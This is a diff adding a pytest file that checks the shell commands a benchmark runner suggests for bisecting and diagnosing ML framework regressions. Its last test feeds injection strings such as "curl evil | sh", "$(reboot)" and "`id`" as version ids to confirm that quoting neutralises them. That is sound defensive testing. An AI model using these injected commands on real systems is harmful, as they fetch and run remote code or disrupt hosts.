@@ -1,0 +1,155 @@
+"""The commands that a finding gives: whole, valid, and safe to paste."""
+
+from __future__ import annotations
+
+import shlex
+from dataclasses import replace
+from typing import Any
+
+import click
+import pytest
+
+from runner import cli
+from runner.model import Better, Cell, Comparison, Evidence, Kind, Metric, Sample, Status, Verdict
+from runner.report import Report
+from runner.report.findings import findings
+
+TF = Cell("tensorflow", "2.21.0", "3.11.3", "3.11", "cpu")
+OLD = Cell("torch", "2.2.2", "3.11.3", "3.11", "cpu")
+NEW = Cell("torch", "2.15.0", "3.11.3", "3.11", "cpu")
+ACCURACY = "free.test_accuracy"
+STEP = "free.step_s"
+
+
+def ran(cell: Cell, status: Status = Status.OK, probe: str = "mnist", **settings: Any) -> Sample:
+    metrics: tuple[Metric, ...] = (
+        Metric(ACCURACY, 0.98, Kind.SEEDED, Better.HIGHER),
+        Metric(STEP, 0.1, Kind.TIMING, Better.LOWER, "s"),
+        Metric("small.error_max", 1.0, Kind.ERROR, Better.LOWER, "u", terms=64),
+    )
+    metrics = metrics if status is Status.OK else ()
+    return Sample(cell, cell.id, probe, settings, 0, 0, "docker", status, "why" * (status is not Status.OK), metrics)
+
+
+def worse(baseline: Cell, candidate: Cell, metric: str = ACCURACY, **more: Any) -> Comparison:
+    axis = next(a for a in ("framework", "version", "keras") if baseline.values[a] != candidate.values[a])
+    made = Comparison(baseline.id, candidate.id, axis, "mnist", metric, Verdict.REGRESSED, "", Evidence(5, -0.1))
+    return replace(made, **more)
+
+
+def commands(*comparisons: Comparison, cells: tuple[Cell, ...] = (TF, OLD, NEW), **of_report: Any) -> tuple[str, ...]:
+    """The commands of the first finding."""
+    samples = of_report.pop("samples", tuple(ran(cell) for cell in cells))
+    return findings(Report(samples, comparisons, **of_report))[0].commands
+
+
+def accepted(line: str) -> bool:
+    """Whether the command line is one that the program takes."""
+    words = shlex.split(line)
+    assert words[:3] == ["python", "-m", "runner"]
+    above = click.Context(cli.cli, **cli.cli.context_settings)
+    command = cli.cli.get_command(above, words[3])
+    assert command is not None
+    command.make_context(words[3], words[4:], parent=above)
+    return True
+
+
+def test_a_worse_release_is_bisected_between_both_ends() -> None:
+    assert commands(worse(OLD, NEW), cells=(OLD, NEW)) == (
+        (
+            "python -m runner bisect torch --good 2.2.2 --bad 2.15.0 --cell torch-2.15.0_keras-3.11.3_py3.11_cpu "
+            "--probe mnist --metric free.test_accuracy"
+        ),
+        "python -m runner diagnose torch-2.15.0_keras-3.11.3_py3.11_cpu torch-2.2.2_keras-3.11.3_py3.11_cpu",
+    )
+
+
+def test_where_the_bad_release_is_the_older_the_fix_is_looked_for() -> None:
+    bisect, diagnose = commands(worse(TF, OLD))
+    assert bisect == (
+        "python -m runner bisect torch --good 2.15.0 --bad 2.2.2 --find-fix "
+        "--cell torch-2.2.2_keras-3.11.3_py3.11_cpu --probe mnist --metric free.test_accuracy"
+    )
+    assert diagnose.endswith("diagnose torch-2.2.2_keras-3.11.3_py3.11_cpu tensorflow-2.21.0_keras-3.11.3_py3.11_cpu")
+
+
+def test_the_ends_are_the_nearest_releases() -> None:
+    between = [replace(NEW, version=version) for version in ("2.9.0", "2.10.0", "2.16.0", "2.17.0")]
+    (bisect, _) = commands(worse(OLD, NEW), cells=(OLD, NEW, *between))
+    assert "--good 2.10.0 --bad 2.15.0 --cell" in bisect
+    (bisect, _) = commands(worse(TF, NEW), cells=(TF, NEW, *between[2:]))
+    assert "--good 2.16.0 --bad 2.15.0 --find-fix" in bisect
+
+
+def test_a_worse_keras_is_bisected_as_keras() -> None:
+    later = replace(OLD, keras="3.15.1")
+    (bisect, _) = commands(worse(OLD, later), cells=(OLD, later))
+    assert "bisect keras --good 3.11.3 --bad 3.15.1 --cell torch-2.2.2_keras-3.15.1_py3.11_cpu" in bisect
+
+
+def test_frameworks_without_a_second_release_are_diagnosed_only() -> None:
+    (only,) = commands(worse(TF, NEW), cells=(TF, NEW))
+    assert only.startswith("python -m runner diagnose torch-2.15.0")
+
+
+def test_cells_without_keras_and_figures_of_other_probes_are_not_diagnosed() -> None:
+    old, new = replace(OLD, keras=None), replace(NEW, keras=None)
+    assert [line.split()[3] for line in commands(worse(old, new), cells=(old, new))] == ["bisect"]
+    assert [line.split()[3] for line in commands(worse(OLD, NEW, STEP))] == ["bisect"]
+    conv = worse(OLD, NEW, "small.error_max", probe="conv2d")
+    samples = tuple(ran(cell, probe="conv2d") for cell in (OLD, NEW))
+    (bisect,) = commands(conv, samples=samples)
+    assert bisect.endswith("--probe conv2d --metric small.error_max")
+
+
+def test_a_cell_that_does_not_run_is_bisected_without_a_metric_and_can_be_kept() -> None:
+    broken = worse(OLD, NEW, "status", verdict=Verdict.BROKEN, baseline_value=Status.OK)
+    bisect, keep = commands(broken, samples=(ran(OLD), ran(NEW, Status.CRASHED)), invocation="--seed 3")
+    assert bisect.endswith("--bad 2.15.0 --cell torch-2.15.0_keras-3.11.3_py3.11_cpu --probe mnist")
+    assert keep == "python -m runner matrix --only torch-2.15.0_keras-3.11.3_py3.11_cpu --keep-failed --seed 3"
+
+
+def test_the_options_of_the_run_are_carried_over_where_the_command_has_them() -> None:
+    given = "--set seeds --executor host --seed 3 --timeout 1800 --offline --data digits.npz --out elsewhere"
+    bisect, diagnose = commands(worse(OLD, NEW), invocation=given)
+    assert bisect.endswith("--metric free.test_accuracy --executor host --timeout 1800")
+    assert diagnose.endswith("_cpu --executor host --timeout 1800 --offline --data digits.npz")
+
+
+def test_diagnose_gets_the_digits_and_no_other_data() -> None:
+    _, diagnose = commands(worse(OLD, NEW), invocation="--data daquar=photos --data mnist=a.npz")
+    assert diagnose.endswith("_cpu --data a.npz")
+
+
+def test_bisect_gets_no_executor_that_cannot_install() -> None:
+    bisect, diagnose = commands(worse(OLD, NEW), invocation="--executor current")
+    assert "--executor" not in bisect
+    assert diagnose.endswith("--executor current")
+
+
+def test_settings_that_bisect_would_not_use_by_itself_are_given() -> None:
+    samples = tuple(ran(cell, epochs=1, batch=128, controlled_epochs=None) for cell in (OLD, NEW))
+    bisect, _ = commands(worse(OLD, NEW), samples=samples)
+    assert bisect.endswith("--metric free.test_accuracy --setting mnist.epochs=1")
+    samples = tuple(ran(cell, a="3", b="text", c=True, d=0.5) for cell in (OLD, NEW))
+    bisect, _ = commands(worse(OLD, NEW), samples=samples)
+    given = [word.partition("mnist.")[2] for word in shlex.split(bisect) if word.startswith("mnist.")]
+    assert given == ['a="3"', "b=text", "c=true", "d=0.5"]
+
+
+def test_every_command_of_a_report_is_one_that_the_program_takes(quick: Report) -> None:
+    given = "--executor docker --timeout 60 --offline --data a.npz --out elsewhere --setting mnist.epochs=1 --seed 3"
+    lines = [line for f in findings(replace(quick, invocation=given)) for line in f.commands]
+    assert {line.split()[3] for line in lines} == {"bisect", "diagnose", "matrix"}
+    assert all(accepted(line) for line in lines)
+
+
+@pytest.mark.parametrize("evil", ["1'; curl evil | sh; '", "$(reboot)", "a b", "1\n2", "`id`"])
+def test_a_hostile_id_stays_one_word(evil: str) -> None:
+    hostile = replace(NEW, version=evil)
+    for line in commands(worse(OLD, hostile), cells=(OLD, hostile), invocation=shlex.join(["--data", evil])):
+        words = shlex.split(line)
+        shown = " ".join(evil.split())
+        assert f"torch-{shown}_keras-3.11.3_py3.11_cpu" in words
+        assert words[:3] == ["python", "-m", "runner"]
+        assert "\n" not in line
